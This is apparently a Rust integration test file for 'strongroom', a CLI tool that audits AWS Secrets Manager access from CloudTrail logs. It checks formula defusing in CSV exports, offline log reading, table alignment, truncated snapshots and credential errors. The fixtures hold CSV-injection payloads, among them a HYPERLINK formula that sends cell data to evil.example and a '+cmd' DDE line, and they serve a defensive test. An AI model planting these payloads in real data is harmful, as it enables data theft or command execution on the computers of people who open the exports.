//! What a new user and an investigator meet first, through the real binary and no AWS account:
//! hostile CloudTrail text in every CSV export, log files read offline, a deleted secret found
//! by name, a truncated snapshot, and no credentials at all.

use std::path::Path;

use assert_cmd::Command;
use serde_json::json;

const ACCOUNT: &str = "111122223333";
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;

fn arn(name: &str) -> String {
    format!("arn:aws:secretsmanager:us-east-1:{ACCOUNT}:secret:{name}-AbC123")
}

fn record(time: &str, secret_id: &str, agent: &str, ip: &str) -> serde_json::Value {
    json!({
        "eventVersion": "1.08",
        "eventTime": time,
        "eventSource": "secretsmanager.amazonaws.com",
        "eventName": "GetSecretValue",
        "awsRegion": "us-east-1",
        "eventType": "AwsApiCall",
        "eventID": format!("id-{time}"),
        "recipientAccountId": ACCOUNT,
        "sourceIPAddress": ip,
        "userAgent": agent,
        "userIdentity": {"type": "AssumedRole",
            "arn": format!("arn:aws:sts::{ACCOUNT}:assumed-role/-exfil/+session"),
            "accountId": ACCOUNT,
            "sessionContext": {"sessionIssuer": {"type": "Role",
                "arn": format!("arn:aws:iam::{ACCOUNT}:role/-exfil"), "userName": "-exfil"}}},
        "requestParameters": {"secretId": secret_id},
        "responseElements": null,
    })
}

/// A snapshot whose text fields came from an attacker: description, tags, user agent, IP.
fn hostile_snapshot(dir: &Path) -> std::path::PathBuf {
    let snap = json!({
        "schema_version": 1,
        "captured_at": "2026-11-20T09:00:00Z",
        "source": "fixture",
        "accounts": [{"id": ACCOUNT}],
        "regions": ["us-east-1"],
        "cells": [{"account": ACCOUNT, "region": "us-east-1", "health": {"state": "ok"}}],
        "secrets": [{
            "arn": arn("/clarivum/prod/payments/stripe-api-key"),
            "name": "/clarivum/prod/payments/stripe-api-key",
            "account": ACCOUNT, "region": "us-east-1",
            "description": "=1+1",
            "created": "2025-01-01T00:00:00Z",
            "rotation": {"enabled": false},
            "tags": [{"key": "Owner", "value": "@SUM(A1:A9)"},
                     {"key": "Classification", "value": "+cmd|' /C calc'!A0"}]
        }],
        "events": [
            record("2026-11-19T10:00:00Z", &arn("/clarivum/prod/payments/stripe-api-key"),
                   HYPERLINK, "=1+1"),
            record("2026-11-19T11:00:00Z", "\t=2+2", "-2+3", "@x"),
        ],
    });
    let path = dir.join("hostile.json");
    std::fs::write(&path, snap.to_string()).expect("write snapshot");
    path
}

fn strongroom(dir: &Path) -> Command {
    let mut cmd = Command::cargo_bin("strongroom").expect("binary");
    cmd.env_clear()
        .env("HOME", dir)
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .arg("--state-dir")
        .arg(dir.join("state"));
    cmd
}

/// Every cell of a CSV document, parsed as a spreadsheet would read the file.
fn cells(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|r| {
            r.expect("valid csv")
                .iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

fn assert_spreadsheet_safe(what: &str, text: &str, hostile: &[&str]) {
    let cells = cells(text);
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell == "-",
            "{what}: cell {cell:?} would run as a formula"
        );
    }
    for h in hostile {
        assert!(
            cells.iter().any(|c| c == &format!("'{h}")),
            "{what}: {h:?} should be kept readable, quoted: {cells:?}"
        );
    }
}

#[test]
fn every_csv_export_defuses_formulas_and_keeps_the_text() {
    let dir = tempfile::tempdir().expect("tempdir");
    let snap = hostile_snapshot(dir.path());
    let run = |args: &[&str]| {
        let out = strongroom(dir.path())
            .arg("--snapshot")
            .arg(&snap)
            .args(args)
            .output()
            .expect("run");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let events = run(&["events", "--since", "3650d", "--format", "csv"]);
    assert_spreadsheet_safe("events", &events, &[HYPERLINK, "=1+1", "-2+3", "@x"]);
    let inventory = run(&["inventory", "--format", "csv"]);
    assert_spreadsheet_safe(
        "inventory",
        &inventory,
        &["@SUM(A1:A9)", "+cmd|' /C calc'!A0"],
    );
    let audit = run(&["audit", "--format", "csv", "--fail-on", "critical"]);
    assert!(audit.lines().count() > 1, "{audit}");
    assert_spreadsheet_safe("audit", &audit, &[]);

    let started = strongroom(dir.path())
        .arg("--snapshot")
        .arg(&snap)
        .args(["review", "start", "--reviewer", "=evil()"])
        .output()
        .expect("review start");
    assert!(
        started.status.code().is_some_and(|c| c != 101),
        "{started:?}"
    );
    let review = run(&["review", "export", "--format", "csv"]);
    assert!(review.contains("stripe-api-key"), "{review}");
    assert_spreadsheet_safe("review", &review, &["=evil()"]);
}

#[test]
fn log_files_alone_are_read_offline_with_no_account_and_no_region() {
    let dir = tempfile::tempdir().expect("tempdir");
    let logs = dir.path().join("AWSLogs");
    std::fs::create_dir_all(&logs).expect("logs dir");
    let deleted = arn("/clarivum/prod/payments/old-ledger-key");
    let records = json!({"Records": [
        record("2025-11-01T10:00:00Z", &deleted, "aws-cli/2.15", "203.0.113.9"),
        record("2025-11-02T10:00:00Z", "/clarivum/prod/payments/old-ledger-key",
               "aws-cli/2.15", "203.0.113.9"),
    ]});
    std::fs::write(logs.join("trail.json"), records.to_string()).expect("write log");
    // No AWS_REGION, no credentials, no network: the files are the whole source.
    let out = strongroom(dir.path())
        .arg("--cloudtrail")
        .arg(&logs)
        .args(["events", "--since", "800d"])
        .output()
        .expect("run");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    assert!(stdout.contains("2 events"), "{stdout}");
    // A secret the (empty) inventory lacks is shown as written, marked.
    assert!(
        stdout.contains("/clarivum/prod/payments/old-ledger-key (not in inventory)"),
        "{stdout}"
    );
    // And it can be asked about by name, although it is in no inventory (deleted).
    let by_name = strongroom(dir.path())
        .arg("--cloudtrail")
        .arg(&logs)
        .args(["events", "--since", "800d", "--format", "json"])
        .args(["--secret", "/clarivum/prod/payments/old-ledger-key"])
        .output()
        .expect("run");
    let json: serde_json::Value = serde_json::from_slice(&by_name.stdout).expect("json");
    assert_eq!(json["count"], 2, "{json}");
    assert_eq!(
        json["events"][0]["not_in_inventory"][0],
        "/clarivum/prod/payments/old-ledger-key"
    );
}

#[test]
fn the_events_table_stays_aligned_when_a_value_is_too_wide() {
    let dir = tempfile::tempdir().expect("tempdir");
    let logs = dir.path().join("trail.json");
    let mut denied = record(
        "2026-11-02T10:00:00Z",
        "/clarivum/prod/payments/ledger-db-password",
        "aws-cli/2.15",
        "2001:db8:85a3:1234:5678:8a2e:370:7334",
    );
    denied["errorCode"] = json!("AccessDeniedException");
    denied["userIdentity"]["sessionContext"]["sessionIssuer"]["userName"] =
        json!("a-very-long-role-name-for-the-payments-team");
    let ok = record(
        "2026-11-01T10:00:00Z",
        "prod/db",
        "aws-cli/2.15",
        "192.0.2.1",
    );
    std::fs::write(&logs, json!({"Records": [denied, ok]}).to_string()).expect("write");
    let out = strongroom(dir.path())
        .arg("--cloudtrail")
        .arg(&logs)
        .args(["events", "--since", "800d"])
        .output()
        .expect("run");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = stdout.lines().take(3).collect();
    // Every column starts where its title does, whatever the width of the values before it.
    let column = |line: &str, text: &str| line.find(text).map(|at| line[..at].chars().count());
    for (title, values) in [
        ("SOURCE IP", ["2001:db8", "192.0.2.1"]),
        ("SECRETS", ["/clarivum/prod/payments", "prod/db"]),
    ] {
        let want = column(lines[0], title);
        for (line, value) in lines[1..].iter().zip(values) {
            assert_eq!(column(line, value), want, "{title} shifted:\n{stdout}");
        }
    }
    assert!(stdout.contains('…'), "a cut is marked:\n{stdout}");
}

#[test]
fn a_truncated_snapshot_keeps_what_came_before_the_cut_and_exits_2() {
    let dir = tempfile::tempdir().expect("tempdir");
    let whole = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/demo-snapshot.json"),
    )
    .expect("demo");
    let mut end = 50_000;
    while !whole.is_char_boundary(end) {
        end -= 1;
    }
    let cut = dir.path().join("cut.json");
    std::fs::write(&cut, &whole[..end]).expect("write");
    let out = strongroom(dir.path())
        .arg("--snapshot")
        .arg(&cut)
        .args(["inventory", "--format", "json"])
        .output()
        .expect("run");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("breaks at line"), "{stderr}");
    assert!(stderr.contains("kept the"), "{stderr}");
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let rows = json["secrets"].as_array().map_or(0, Vec::len);
    assert!(rows > 10, "{rows} rows kept");
}

#[test]
fn no_credentials_is_one_sentence_with_the_next_step() {
    let dir = tempfile::tempdir().expect("tempdir");
    // An endpoint that answers nothing, and no credentials anywhere: the chain ends at IMDS.
    let out = strongroom(dir.path())
        .env("AWS_REGION", "eu-central-1")
        .env("AWS_EC2_METADATA_SERVICE_ENDPOINT", "http://127.0.0.1:9")
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .args(["inventory"])
        .timeout(std::time::Duration::from_secs(120))
        .output()
        .expect("run");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("No AWS credentials found"), "{stderr}");
    for step in [
        "aws configure",
        "aws sso login",
        "--profile",
        "strongroom --demo",
    ] {
        assert!(stderr.contains(step), "{step}: {stderr}");
    }
    for raw in ["DispatchFailure", "ConnectorError", "dispatch failure"] {
        assert!(!stderr.contains(raw), "{raw} on screen: {stderr}");
    }
    assert!(stderr.lines().count() <= 3, "{stderr}");
}
